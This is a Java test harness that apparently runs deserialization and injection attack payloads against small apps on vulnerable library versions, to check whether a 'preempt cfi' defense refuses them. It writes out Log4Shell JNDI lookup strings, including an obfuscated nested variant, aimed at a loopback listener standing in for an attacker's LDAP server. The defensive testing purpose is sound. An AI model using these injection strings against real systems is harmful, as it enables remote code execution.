import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BooleanSupplier;

/**
 * The gadget-chain corpus's victim: small apps on vulnerable library versions, each doing its ordinary
 * work, then (with {@code attack}) each given an attacker's payload where it receives requests.
 *
 * <pre>
 * java Corpus normal INPUT...              # every app's ordinary work on each input
 * java Corpus attack PAYLOAD_DIR INPUT...  # the same work, every chain, then the same work again
 * </pre>
 *
 * Lines: {@code normal APP RESULT}, {@code attack CHAIN OUTCOME} (refused and the refusal,
 * {@code threw} and the exception, or {@code returned}), {@code sink CHAIN reached|absent},
 * {@code after APP RESULT}, {@code done}. Each request runs in its own thread named for what it
 * is ({@code gadget-CHAIN} for an attack), which the audit log names. A chain's sink is a
 * {@code touch CHAIN.marker} in the working directory, a connection to a loopback listener standing
 * for the attacker's LDAP server, or a host name asked of the resolver (DNS).
 */
public final class Corpus {
    private static final Map<String, App> APPS = new LinkedHashMap<>();
    private static final Map<String, BooleanSupplier> SINKS = new LinkedHashMap<>();

    public static void main(String[] args) throws Exception {
        boolean attack = args[0].equals("attack");
        List<String> inputs = List.of(args).subList(attack ? 2 : 1, args.length);
        APPS.put("collections", new CollectionsApp());
        APPS.put("collections4", new Collections4App());
        APPS.put("beanutils", new BeanutilsApp());
        APPS.put("groovy", new GroovyApp());
        APPS.put("sessions", new SessionsApp());
        APPS.put("bookmarks", new BookmarksApp());
        APPS.put("spring", new SpringApp());
        APPS.put("log", new LogApp());
        APPS.put("yaml", new YamlApp());
        APPS.put("xstream", new XStreamApp());
        Listener message = new Listener("message");
        Listener context = new Listener("context");
        Listener nested = new Listener("nested");
        Listener spring = new Listener("spring");
        work("normal", inputs);
        if (!attack) {
            System.out.println("done");
            return;
        }
        Path payloads = Path.of(args[1]);
        attack("cc31-exec", "collections", bytes(payloads, "cc31-exec"));
        attack("cc31-templates", "collections", bytes(payloads, "cc31-templates"));
        attack("cc40-exec", "collections4", bytes(payloads, "cc40-exec"));
        attack("cc40-templates", "collections4", bytes(payloads, "cc40-templates"));
        attack("beanutils", "beanutils", bytes(payloads, "beanutils"));
        attack("groovy", "groovy", bytes(payloads, "groovy"));
        attack("urldns-sessions", "sessions", bytes(payloads, "urldns-sessions"), () -> ProbeResolver.asked("urldns-sessions.invalid"));
        attack("urldns-bookmarks", "bookmarks", bytes(payloads, "urldns-bookmarks"), () -> ProbeResolver.asked("urldns-bookmarks.invalid"));
        attack("spring-jta", "spring", withPort(bytes(payloads, "spring-jta"), spring.port()), spring::reached);
        attack("log4j-message", "log", new String[] {"mallory", "${jndi:ldap://127.0.0.1:" + message.port() + "/a}"}, message::reached);
        attack("log4j-context", "log", new String[] {"${jndi:ldap://127.0.0.1:" + context.port() + "/a}", "curl/8.5"}, context::reached);
        attack("log4j-nested", "log", new String[] {"mallory", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://127.0.0.1:" + nested.port() + "/a}"},
                nested::reached);
        attack("snakeyaml", "yaml", Files.readString(payloads.resolve("snakeyaml.yaml")));
        attack("xstream", "xstream", Files.readString(payloads.resolve("xstream.xml")));
        awaitSinks();
        work("after", inputs);
        System.out.println("done");
    }

    /** Every app's ordinary work on each input, each request in its own thread. */
    private static void work(String label, List<String> inputs) throws Exception {
        for (Map.Entry<String, App> app : APPS.entrySet()) {
            for (String input : inputs) {
                for (Object request : app.getValue().requests(input)) {
                    String result = serve(label + "-" + app.getKey(), app.getValue(), request);
                    System.out.println(label + " " + app.getKey() + " " + result);
                }
            }
        }
    }

    private static void attack(String chain, String app, Object payload) {
        attack(chain, app, payload, () -> Files.exists(Path.of(chain + ".marker")));
    }

    private static void attack(String chain, String app, Object payload, BooleanSupplier sink) {
        SINKS.put(chain, sink);
        System.out.println("attack " + chain + " " + serve("gadget-" + chain, APPS.get(app), payload));
    }

    /** Where a request reaches an app: its handle, in a thread of its own; what it answered, or how it failed. */
    private static String serve(String thread, App app, Object request) {
        String[] outcome = new String[1];
        Thread t = new Thread(() -> {
            try {
                outcome[0] = app.handle(request);
            } catch (Throwable e) {
                outcome[0] = describe(e);
            }
        }, thread);
        t.start();
        try {
            t.join();
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
        return outcome[0];
    }

    /**
     * "refused MESSAGE" if preempt refused anywhere in the causes (libraries wrap exceptions), else
     * "threw CLASS: MESSAGE", and "(root CLASS: MESSAGE)" when the root cause is another exception.
     */
    private static String describe(Throwable e) {
        Throwable root = e;
        for (Throwable c = e; c != null; c = c.getCause()) {
            if (c instanceof SecurityException && String.valueOf(c.getMessage()).startsWith("preempt cfi:")) {
                return "refused " + c.getMessage();
            }
            root = c;
        }
        return "threw " + firstLine(e) + (root == e ? "" : " (root " + firstLine(root) + ")");
    }

    private static String firstLine(Throwable e) {
        return e.getClass().getName() + ": " + String.valueOf(e.getMessage()).lines().findFirst().orElse("");
    }

    /**
     * Waits up to 5 s for every chain's sink, then reports each: a process a chain started runs its
     * {@code touch} a moment later, longer on a loaded machine (the other sinks are reached before the attack
     * returns).
     */
    private static void awaitSinks() throws InterruptedException {
        long deadline = System.nanoTime() + 5_000_000_000L;
        while (System.nanoTime() < deadline && !SINKS.values().stream().allMatch(BooleanSupplier::getAsBoolean)) {
            Thread.sleep(50);
        }
        for (Map.Entry<String, BooleanSupplier> s : SINKS.entrySet()) {
            System.out.println("sink " + s.getKey() + " " + (s.getValue().getAsBoolean() ? "reached" : "absent"));
        }
    }

    private static byte[] bytes(Path payloads, String chain) throws Exception {
        return Files.readAllBytes(payloads.resolve(chain + ".ser"));
    }

    /** The payload with its port placeholder ("00000", see Attacker.PORT) replaced by a listener's port, padded to the same length. */
    private static byte[] withPort(byte[] payload, int port) {
        byte[] placeholder = ":00000/".getBytes(StandardCharsets.US_ASCII);
        byte[] actual = String.format(":%05d/", port).getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i + placeholder.length <= payload.length; i++) {
            if (Arrays.equals(payload, i, i + placeholder.length, placeholder, 0, placeholder.length)) {
                System.arraycopy(actual, 0, payload, i, actual.length);
                return payload;
            }
        }
        throw new IllegalArgumentException("no port placeholder in the payload");
    }

    /** A loopback listener standing for the attacker's LDAP server: it counts connections, reads the first request and hangs up. */
    static final class Listener {
        private final ServerSocket socket;
        private final AtomicInteger connections = new AtomicInteger();

        Listener(String name) throws Exception {
            socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
            Thread t = new Thread(() -> {
                while (true) {
                    try (Socket s = socket.accept()) {
                        connections.incrementAndGet();
                        InputStream in = s.getInputStream();
                        in.read(new byte[256]);
                    } catch (Exception e) {
                        return;
                    }
                }
            }, "ldap-" + name);
            t.setDaemon(true);
            t.start();
        }

        int port() {
            return socket.getLocalPort();
        }

        boolean reached() {
            return connections.get() > 0;
        }
    }
}
